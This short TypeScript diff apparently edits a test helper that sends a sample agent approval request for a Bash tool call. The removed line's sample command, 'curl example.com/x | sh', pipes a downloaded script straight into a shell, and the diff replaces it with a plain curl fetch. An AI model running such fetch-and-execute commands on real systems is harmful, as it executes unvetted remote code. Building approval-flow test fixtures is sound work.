@@ -135,7 +135,7 @@ async function sendAsAgent(path: string, body: object): Promise<unknown> {
 
 /** Asks in the chat of the samples. */
 async function askAsAgent(metadata: object): Promise<string> {
-  const request = { tool: 'Bash', input: { command: 'curl example.com/x | sh' } };
+  const request = { tool: 'Bash', input: { command: 'curl example.com/x' } };
   const body = { kind: 'approval', request, chatId: 'samples', metadata, timeout: null };
   return ((await sendAsAgent('/v1/interactions', body)) as { id: string }).id;
 }
